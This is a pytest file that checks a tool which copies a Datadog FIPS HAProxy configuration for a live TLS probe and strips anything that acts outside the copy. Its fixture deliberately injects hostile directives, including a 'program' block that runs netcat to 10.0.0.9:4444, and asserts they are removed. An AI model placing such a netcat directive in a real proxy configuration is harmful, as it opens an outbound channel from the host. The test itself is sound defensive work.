"""The live check's copy of the proxy's configuration: the same TLS, nothing that acts outside."""

from __future__ import annotations

import pytest

from fipsconf.errors import DocumentError
from fipsconf.proxy_probe import HEADER, probe_config, read_answer
from tests.fipsconf.evidence.samples import PROXY_EXAMPLE

HOSTILE_EXTRAS = """
global
    daemon
    master-worker
    pidfile /run/datadog-fips-proxy.pid
    stats socket /run/haproxy.sock mode 600 level admin
    user dd-agent
    chroot /var/empty
    default-path config

peers mypeers
    peer other 10.0.0.9:1024

program spy
    command /usr/bin/nc 10.0.0.9 4444

mailers alerts
    mailer smtp1 10.0.0.9:25

backend datadog-extra
    email-alert mailers alerts
    server mothership extra.ddog-gov.com:443 ssl verify required
"""


def test_the_copy_keeps_the_tls_and_listens_on_abstract_sockets_only() -> None:
    probe = probe_config(PROXY_EXAMPLE + HOSTILE_EXTRAS, "/etc/datadog-fips-proxy", "p-1", 9804)
    assert probe.socket == "p-1-9804"
    assert probe.frontend == "metrics-forwarder"
    assert probe.intake == "haproxy-app.agent.ddog-gov.com"
    text = probe.text
    binds = [line.strip() for line in text.splitlines() if line.strip().startswith("bind ")]
    assert binds == [f"bind abns@p-1-{port}" for port in range(9803, 9819)]
    # the TLS settings and every server line are the configuration's own, unchanged
    for line in PROXY_EXAMPLE.splitlines():
        if line.strip().startswith(("ssl-default-", "server ", "default-server ", "resolvers")):
            assert line in text.splitlines()
    # nothing that acts outside the copy: no daemon, pid file, stats socket, identity change,
    # peers, programs, mail
    for gone in ("daemon", "master-worker", "pidfile", "stats socket", "user dd-agent",
                 "chroot", "peers", "peer other", "program", "nc 10.0.0.9", "mailer",
                 "email-alert", "log 127.0.0.1"):  # fmt: skip
        assert gone not in text, gone
    assert "default-path origin /etc/datadog-fips-proxy" in text
    assert "default-path config" not in text
    header = [line for line in text.splitlines() if HEADER in line]
    assert header == [
        f'    http-response set-header {HEADER} "%[ssl_bc_protocol]|%[ssl_bc_cipher]|'
        '%[be_name]/%[srv_name]"'
    ]
    after_metrics_bind = text.splitlines().index("    bind abns@p-1-9804") + 1
    assert text.splitlines()[after_metrics_bind] == header[0]


def test_a_configuration_without_the_metrics_port_is_refused() -> None:
    with pytest.raises(
        DocumentError, match="no frontend of the proxy's configuration binds port 9904"
    ):
        probe_config(PROXY_EXAMPLE, "/etc/datadog-fips-proxy", "p", 9904)


def test_reading_the_answer() -> None:
    answer = read_answer(
        b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\n"
        b"x-fips-setup-tls: TLSv1.2|ECDHE-RSA-AES128-GCM-SHA256|datadog-metrics/mothership"
    )
    assert answer == (200, "TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256", "datadog-metrics/mothership")
    # no server connection (503 from HAProxy itself): the fetches are empty
    assert read_answer(b"HTTP/1.1 503 Service Unavailable\r\nX-Fips-Setup-Tls: ||/") == (
        503, None, None, "/",
    )  # fmt: skip
    assert read_answer(b"HTTP/1.0 200 OK") == (200, None, None, None)
    with pytest.raises(ValueError, match="not an HTTP response"):
        read_answer(b"SSH-2.0-OpenSSH_9.2")
